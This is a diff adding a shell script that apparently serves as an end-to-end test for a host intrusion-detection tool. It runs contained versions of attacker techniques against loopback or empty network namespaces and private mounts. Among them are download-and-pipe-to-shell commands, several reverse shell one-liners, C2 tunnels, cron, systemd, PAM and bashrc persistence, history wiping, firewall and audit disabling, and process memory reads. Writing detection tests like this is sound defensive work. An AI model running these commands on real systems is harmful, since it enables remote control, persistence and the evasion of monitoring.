@@ -1,0 +1,128 @@
+#!/bin/sh
+# SPDX-License-Identifier: Apache-2.0
+# Issue 17's techniques, done for real in forms that cannot harm the host
+# (vigil_e2e_test runs this under `vigil run` and asserts the alerts):
+# - files go to the scratch dir DIR, or to tmpfs mounts over the real
+#   directories in a private mount namespace (they vanish with it);
+# - network actions run in a fresh network namespace with only loopback up,
+#   against a listener that accepts and closes at once: no packet leaves;
+# - sysctls are opened for writing and closed unwritten;
+# - tools this host may lack or that would change the host (crontab,
+#   socat, auditctl, systemctl stop, insmod) are copies of /bin/true under the
+#   tool's name in DIR: the command line is what the rules read.
+# Every command line carries TAG so the test finds its alerts.
+# Usage: technique_actions.sh DIR TAG
+set -u
+d=$1
+t=$2
+cd "$d" || exit 2
+py=/usr/bin/python3
+say() { echo "technique: $*"; }
+fake() { cp /bin/true "$d/$1"; }
+# Each action may fail (the rule reads the attempt); the script goes on.
+run() { timeout 20 "$@" >/dev/null 2>&1 </dev/null || say "($* exited $?)"; }
+
+say "download or decode piped into a shell"
+run sh -c "curl -fsS --max-time 2 http://127.0.0.1:9/e2e-$t.sh | sh"
+run sh -c "wget -q -T 2 -O- http://127.0.0.1:9/e2e-$t.sh | bash"
+run sh -c ": e2e-$t; echo dHJ1ZQo= | base64 -d | sh"
+
+say "interactive shells from interpreters"
+run "$py" -c "import os; os.execv('/bin/sh', ['sh'])  # e2e-$t"
+run perl -e "exec '/bin/sh'; # e2e-$t"
+run awk "BEGIN { system(\"/bin/sh\") } # e2e-$t"
+run script -qc /bin/sh /dev/null
+
+say "reverse shells in a private network namespace (loopback only)"
+cat > listener.py <<'EOF'
+import socket, sys
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", 4444))
+s.listen(8)
+s.settimeout(15)
+open(sys.argv[1], "w").close()
+for _ in range(int(sys.argv[2])):
+    c, _ = s.accept()
+    c.close()
+EOF
+cat > rshells.sh <<EOF
+ip link set lo up
+$py listener.py ready 4 & l=\$!
+while [ ! -e ready ]; do sleep 0.05; done
+bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 # e2e-$t"
+busybox nc 127.0.0.1 4444 -e /bin/sh
+$py -c "import socket,os; s=socket.socket(); s.connect(('127.0.0.1',4444)); os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.execv('/bin/sh',['sh'])  # e2e-$t"
+sh -c "rm -f f-$t; mkfifo f-$t; cat f-$t | /bin/sh -i 2>&1 | busybox nc 127.0.0.1 4444 > f-$t"
+wait \$l
+EOF
+run unshare -n sh rshells.sh
+fake socat
+run "$d/socat" "tcp-connect:127.0.0.1:4444" "exec:/bin/sh,pty,stderr # e2e-$t"
+
+say "command and control in an empty network namespace (connects fail: no route)"
+run unshare -n bash -c "echo > /dev/tcp/192.0.2.7/4444 # e2e-$t"
+run unshare -n "$py" -c "import socket; socket.socket().connect(('192.0.2.7', 4444))  # e2e-$t"
+fake chisel
+run "$d/chisel" client 192.0.2.7:8000 R:socks "e2e-$t"
+run unshare -n ssh -o BatchMode=yes -o ConnectTimeout=1 -N -R 2222:localhost:22 "e2e-$t@192.0.2.7"
+
+say "persistence in a private mount namespace"
+fake crontab
+run "$d/crontab" "$d/e2e-$t.cron"
+printf '[Service]\nExecStart=/bin/true\n' > "e2e-$t.service"
+# systemctl link for real, on a root tree in DIR (--root: no systemd, no host unit).
+mkdir -p sysroot/etc/systemd/system sysroot/opt
+cp "e2e-$t.service" sysroot/opt/
+run systemctl --root="$d/sysroot" link "/opt/e2e-$t.service"
+# A directory the host lacks is not created (that would change the host): its action is skipped.
+cat > persist.sh <<EOF
+mount --make-rprivate / || exit 1
+priv() { [ -d "\$1" ] && mount -t tmpfs e2e "\$1" || { echo "technique: no \$1, skipped"; return 1; }; }
+if priv /etc/systemd/system; then ln -s "$d/e2e-$t.service" /etc/systemd/system/e2e-$t.service; fi
+if priv /root; then
+  echo "true # e2e-$t" >> /root/.bashrc
+  echo "ls # e2e-$t" > /root/.bash_history
+  truncate -s0 /root/.bash_history
+  ln -sf /dev/null /root/.bash_history
+fi
+if priv /etc/pam.d; then echo "auth optional pam_e2e_$t.so" > /etc/pam.d/e2e-$t; fi
+if priv /usr/local/share/ca-certificates; then
+  printf -- '-----BEGIN CERTIFICATE-----\\ne2e-$t\\n-----END CERTIFICATE-----\\n' > /usr/local/share/ca-certificates/e2e-$t.crt
+fi
+if priv /var/log; then echo line > /var/log/e2e-$t.log; truncate -s0 /var/log/e2e-$t.log; fi
+if priv /var/mail; then echo mail > /var/mail/e2e-$t; truncate -s0 /var/mail/e2e-$t; fi
+EOF
+run unshare -m sh persist.sh
+
+say "evasion"
+: > "sgid-$t"
+chmod 2755 "sgid-$t"
+echo "secret e2e-$t" > "shred-$t.log"
+run shred -u "shred-$t.log"
+run "$py" -c "import os; os.close(os.open('/proc/sys/kernel/randomize_va_space', os.O_WRONLY))  # e2e-$t"
+run setarch "$(uname -m)" -R /bin/echo "e2e-$t"
+run unshare -n iptables -F
+run unshare -n nft flush ruleset
+fake auditctl
+run "$d/auditctl" -D
+fake systemctl
+run "$d/systemctl" stop auditd "e2e-$t"
+fake insmod
+printf 'not a module e2e-%s\n' "$t" > "e2e-$t.ko"
+run "$d/insmod" "$d/e2e-$t.ko"
+run "$py" -c "open('$d/e2e-$t.ko', 'rb').read()"
+
+say "process memory of another process"
+sleep 30 &
+victim=$!
+run "$py" -c "open('/proc/$victim/maps').read(); open('/proc/$victim/mem', 'rb').close()  # e2e-$t"
+if command -v gcore >/dev/null; then
+  run gcore -o "$d/core-$t" "$victim"
+  rm -f "$d/core-$t".*
+else
+  say "gcore skipped: not installed"
+fi
+kill "$victim"
+wait "$victim" 2>/dev/null
+exit 0
